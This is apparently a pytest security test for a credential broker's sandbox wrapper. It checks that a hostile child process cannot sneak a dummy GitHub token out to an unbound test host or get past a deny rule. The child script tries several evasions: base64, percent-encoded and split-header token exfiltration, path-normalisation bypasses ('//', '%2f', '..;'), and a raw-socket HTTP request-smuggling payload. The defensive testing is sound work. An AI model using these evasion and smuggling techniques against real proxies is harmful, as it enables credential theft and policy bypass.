"""A hostile command inside `broker wrap` tries to get around the brokers' checks: the session's
dummy hidden from the canary (base64, percent-encoding, split across repeated header fields), a
path that a deny rule should stop spelled so that it slips past (`//`, `%2f`, `..;`), and a
request body smuggled as a second request behind a transfer coding the broker does not frame.
Each attempt runs from inside the sandbox, the command reports what it got, and the upstream
must have seen none of it."""

import json

import pytest

from test_wrap import API, PY, REAL, WrapSession, assert_clean, github_policy

OTHER = "other.example.test"  # allowed, bound to no credential, served by the same upstream

CHILD = r'''
import base64, json, os, socket, subprocess, urllib.parse
DUMMY = os.environ["GITHUB_TOKEN"]
OUT = {}

def curl(name, url, *args):
    p = subprocess.run(["curl", "-sS", "--max-time", "10", "--path-as-is", "-o", "/dev/null",
                        "-w", "%{http_code}", *args, url], capture_output=True, text=True)
    OUT[name] = int(p.stdout or 0)

other = "https://other.example.test/"
curl("base64", other + "b64", "-H", "X-Note: " + base64.b64encode(("token=" + DUMMY).encode()).decode())
curl("base64url", other + "b64url",
     "-H", "X-Note: " + base64.urlsafe_b64encode(("k:" + DUMMY).encode()).decode().rstrip("="))
curl("percent", other + "pct", "-H", "X-Note: " + "".join("%%%02X" % b for b in DUMMY.encode()))
half = len(DUMMY) // 2
curl("split", other + "split", "-H", "X-A: " + DUMMY[:half], "-H", "X-A: " + DUMMY[half:])
curl("body_base64", other + "body", "--data-binary",
     "payload=" + base64.b64encode(DUMMY.encode()).decode())
for name, path in [("slashes", "//denied/x"), ("encoded_slash", "/denied%2fx"),
                   ("dot_params", "/ok/..;/denied/x"), ("plain_denied", "/denied/x")]:
    curl(name, "https://api.github.com" + path)
curl("allowed", "https://api.github.com/ok/fine")

# A POST whose Transfer-Encoding the broker does not take, with a second request in its body.
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
smuggled = b"GET http://other.example.test/smuggled HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
s.sendall(b"POST http://other.example.test/te HTTP/1.1\r\nHost: other.example.test\r\n"
          b"Transfer-Encoding: xchunked\r\n\r\n" + smuggled)
head = b""
while b"\r\n\r\n" not in head:
    got = s.recv(4096)
    if not got:
        break
    head += got
OUT["smuggle"] = int(head.split()[1]) if head else 0
print("RESULT " + json.dumps(OUT), flush=True)
'''


def test_a_hostile_command_cannot_hide_the_dummy_or_a_path_or_a_request(tmp_path, pki,
                                                                        tls_upstream):
    policy = github_policy({
        "allow": [{"host": API}, {"host": "github.com"}, {"host": OTHER, "ports": [80, 443]}],
        "deny": [{"host": API, "paths": ["/denied/*"]}],
    })
    ws = WrapSession(tmp_path, pki, tls_upstream.port, policy=policy,
                     connect=[f"{OTHER}:443:127.0.0.1:{tls_upstream.port}",
                              f"{OTHER}:80:127.0.0.1:{tls_upstream.port}"])
    r = ws.run(PY, "-c", CHILD, timeout=60)
    assert r.returncode == 0, r.describe()  # the command ran to its end
    line = [l for l in r.out.splitlines() if l.startswith("RESULT ")]
    assert line, r.describe()
    got = json.loads(line[0][len("RESULT "):])

    for attempt in ("base64", "base64url", "percent", "split", "body_base64"):
        assert got[attempt] == 403, (attempt, got)
    for attempt in ("slashes", "encoded_slash", "dot_params"):
        assert got[attempt] in (400, 403), (attempt, got)
    assert got["plain_denied"] == 403 and got["allowed"] == 200, got
    assert got["smuggle"] == 400, got

    seen = [q["path"] for q in tls_upstream.requests]
    assert seen == ["/ok/fine"], seen  # nothing else reached the upstream
    blocked = [x for x in ws.records() if x.get("event") == "exfiltration_blocked"]
    assert len(blocked) == 5, ws.records()
    assert all(x["credential"] == "github" and x["error"] == "credential_not_bound"
               for x in blocked)
    assert_clean(r.stdout + r.stderr, "wrap output", REAL)
    ws.assert_logs_clean()
